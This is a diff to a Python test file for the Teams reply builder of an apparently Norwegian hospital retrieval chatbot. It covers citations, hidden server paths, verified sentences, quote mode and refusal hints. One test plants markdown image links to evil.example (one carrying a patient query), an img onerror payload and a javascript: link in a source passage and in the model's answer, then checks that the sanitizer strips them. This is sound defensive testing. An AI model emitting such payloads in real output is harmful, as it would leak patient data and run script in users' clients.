@@ -6,9 +6,11 @@ import datetime as dt
 import json
 import re
 
-from rag.models import Answer, Citation, Passage
+from rag.models import Answer, AnswerSentence, Citation, Passage
+from tests.conftest import make_settings
+from ui.documents import document_url
 from ui.teams.cards import CARD_VERSION, FEEDBACK_VERB
-from ui.teams.reply import REFUSAL_HINT, build_reply, cited_numbers, split_text
+from ui.teams.reply import REFUSAL_HINT, REFUSAL_HINTS, build_reply, cited_numbers, split_text
 
 TODAY = dt.date(2026, 11, 24)
 
@@ -79,16 +81,138 @@ def test_one_message_with_text_citations_card_and_ai_label():
     assert message["channelData"]["feedbackLoop"]["type"] == "default"
 
 
-def test_overdue_local_procedure_gets_a_warning_and_a_local_file_is_shown_as_text():
-    local = _passage(1, url="", source_path="fjordbyen/sepsis.pdf", review_due=dt.date(2026, 1, 31),
-                     publisher="Fjordbyen sykehus", doc_type="prosedyre")
+def test_overdue_local_procedure_gets_a_warning_and_a_local_file_shows_its_title_only():
+    local = _passage(1, url="", source_path="/srv/fagprat/dokumenter/fjordbyen/sepsis.pdf",
+                     review_due=dt.date(2026, 1, 31), publisher="Fjordbyen sykehus", doc_type="prosedyre")
     current = _passage(2, review_due=dt.date(2027, 1, 1))
-    card_text = json.dumps(_card(_dump(build_reply(_answer("A [1]. B [2].", [local, current]), "x", today=TODAY)[0])),
-                           ensure_ascii=False)
+    (message,) = [_dump(m) for m in build_reply(_answer("A [1]. B [2].", [local, current]), "x", today=TODAY)]
+    card_text = json.dumps(_card(message), ensure_ascii=False)
     assert card_text.count("Revisjonsfristen") == 1
     assert "Revisjonsfristen (31.01.2026) er passert" in card_text
-    assert "Fil: fjordbyen/sepsis.pdf" in card_text
+    assert "[1] Kilde nummer 1" in card_text
     assert card_text.count("Åpne kilde") == 1  # only the web link can be opened from Teams
+    # No server path anywhere: not on the card, not in the citation entity, not in the fallback text.
+    assert "sepsis.pdf" not in json.dumps(message, ensure_ascii=False)
+    assert "url" not in _claims(message)[0]["appearance"]
+
+
+def test_a_local_file_links_to_the_chats_document_route_when_the_chat_has_a_public_address(tmp_path):
+    settings = make_settings(tmp_path, chat_public_url="https://fagprat.sykehus.example/",
+                             chat_file_roots=[tmp_path / "dokumenter"])
+    local = _passage(1, url="", doc_id="file:fjordbyen/sepsis.pdf",
+                     source_path=str(tmp_path / "dokumenter" / "fjordbyen" / "sepsis.pdf"))
+    outside = _passage(2, url="", doc_id="file:annet/hemmelig.pdf", source_path="/etc/hemmelig.pdf")
+    (message,) = [_dump(m) for m in build_reply(_answer("A [1]. B [2].", [local, outside]), "x", today=TODAY,
+                                               document_link=lambda p: document_url(settings, p))]
+    route = "https://fagprat.sykehus.example/fagprat/dokument/file:fjordbyen/sepsis.pdf#page=1"
+    card = _card(message)
+    opened = [a["url"] for a in _actions(card) if a["type"] == "Action.OpenUrl"]
+    assert opened == [route]
+    assert _claims(message)[0]["appearance"]["url"] == route
+    assert "url" not in _claims(message)[1]["appearance"]  # not under an allowed root: title only
+    text = json.dumps(message, ensure_ascii=False)
+    assert str(tmp_path) not in text and "/etc/hemmelig.pdf" not in text
+
+
+def _actions(card: dict) -> list[dict]:
+    found = []
+
+    def walk(node):
+        if isinstance(node, dict):
+            if node.get("type", "").startswith("Action."):
+                found.append(node)
+            for value in node.values():
+                walk(value)
+        elif isinstance(node, list):
+            for value in node:
+                walk(value)
+
+    walk(card.get("body", []))
+    return found
+
+
+def _card_texts(card: dict) -> list[str]:
+    texts = []
+
+    def walk(node):
+        if isinstance(node, dict):
+            if node.get("type") == "TextBlock":
+                texts.append(node["text"])
+            for value in node.values():
+                walk(value)
+        elif isinstance(node, list):
+            for value in node:
+                walk(value)
+
+    walk(card["body"])
+    return texts
+
+
+def test_a_generated_answer_card_says_what_was_checked_and_shows_the_supporting_text():
+    passage = _passage(1, text="Antibiotika gis innen én time ved sepsis med organsvikt. Mål laktat.")
+    answer = _answer("Gi antibiotika innen en time [1].", [passage], kind="generated",
+                     sentences=[AnswerSentence(text="Gi antibiotika innen en time.", citations=[1], verified=True,
+                                               evidence="Antibiotika gis innen én time ved sepsis med organsvikt.")])
+    answer.citations[0].highlights = ["Antibiotika gis innen én time ved sepsis med organsvikt."]
+    texts = _card_texts(_card(_dump(build_reply(answer, "x", today=TODAY)[0])))
+    assert texts[0].startswith("✔ Kontrollert")
+    assert "«Antibiotika gis innen én time ved sepsis med organsvikt.»" in texts
+    assert not any("verifisert" in t for t in texts)
+
+
+def test_an_unverified_sentence_kept_by_the_setting_has_no_citation_and_the_card_warns():
+    answer = _answer(
+        "Gi antibiotika innen en time [1]. Gi 2 g paracetamol (ikke verifisert mot kildene)",
+        [_passage(1)],
+        kind="generated",
+        sentences=[
+            AnswerSentence(text="Gi antibiotika innen en time.", citations=[1], verified=True),
+            AnswerSentence(text="Gi 2 g paracetamol", verified=False),
+        ],
+        uncited_sentences=["Gi 2 g paracetamol"],
+    )
+    (message,) = [_dump(m) for m in build_reply(answer, "x", today=TODAY)]
+    assert [c["position"] for c in _claims(message)] == [1]
+    texts = _card_texts(_card(message))
+    assert any("ikke verifisert" in t and "Ikke stol på dem" in t for t in texts)
+
+
+def test_a_quote_answer_says_it_is_quoted_and_keeps_one_paragraph_per_quote():
+    passage = _passage(1, text="PVK skal inspiseres minst hver 8. time. Skift ved tegn på flebitt.")
+    text = ("Sitater fra kildene, ordrett (ikke skrevet av en språkmodell):\n"
+            "«PVK skal inspiseres minst hver 8. time.» [1]\n«Skift ved tegn på flebitt.» [1]")
+    answer = _answer(text, [passage], kind="quote", fallback_reason="quote_mode",
+                     sentences=[AnswerSentence(text="PVK skal inspiseres minst hver 8. time.", citations=[1],
+                                               verified=True, quote=True)],
+                     notices=["Sitatsvar: ingen språkmodell skriver svar her."])
+    answer.citations[0].highlights = ["PVK skal inspiseres minst hver 8. time."]
+    (message,) = [_dump(m) for m in build_reply(answer, "x", today=TODAY)]
+    assert message["text"].split("\n\n") == text.split("\n")
+    texts = _card_texts(_card(message))
+    assert texts[0] == "Sitatsvar: setningene er sitert ordrett fra kildene."
+    assert "«PVK skal inspiseres minst hver 8. time.»" in texts
+    assert "Sitatsvar: ingen språkmodell skriver svar her." in texts
+
+
+def test_model_and_document_text_cannot_put_images_html_or_script_links_in_teams():
+    planted = _passage(1, title="Kilde ![x](https://evil.example/t.png)",
+                       text="Tekst <img src=https://evil.example/leak.png>")
+    answer = _answer("Svar ![spor](https://evil.example/leak?q=pasient) <img src=x onerror=alert(1)> "
+                     "[klikk](javascript:alert(1)) [1].", [planted])
+    answer.citations[0].highlights = ["Se <img src=https://evil.example/leak.png> her"]
+    (message,) = [_dump(m) for m in build_reply(answer, "x", today=TODAY)]
+    everything = message["text"] + json.dumps(_card(message), ensure_ascii=False)
+    assert "![" not in everything and "<img" not in everything
+    assert "](javascript:" not in message["text"]
+    assert [c["position"] for c in _claims(message)] == [1]
+
+
+def test_nynorsk_refusal_gets_a_nynorsk_hint():
+    answer = _answer("Eg finn ikkje svar på dette i retningslinjene som er tilgjengelege.", [], refused=True,
+                     kind="refusal", language="nn", refusal_reason="no_relevant_sources")
+    (message,) = [_dump(m) for m in build_reply(answer, "x", today=TODAY)]
+    assert message["text"].endswith(REFUSAL_HINTS["nn"])
+    assert _card_texts(_card(message))[0] == "Var svaret nyttig?"
 
 
 def test_refusal_is_shown_with_a_hint_and_no_sources():
